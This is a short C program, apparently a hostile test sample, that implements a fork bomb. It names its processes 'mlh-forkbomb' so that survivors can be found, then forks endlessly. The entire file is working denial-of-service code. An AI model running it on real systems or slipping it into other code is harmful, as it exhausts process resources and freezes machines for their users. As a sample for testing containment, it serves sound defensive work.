/* Hostile: a fork bomb; every process keeps forking. */
#define _GNU_SOURCE
#include <sys/prctl.h>
#include <unistd.h>

int main(void)
{
    prctl(PR_SET_NAME, "mlh-forkbomb", 0, 0, 0); /* survivors are found by this name */
    for (;;) fork();
}
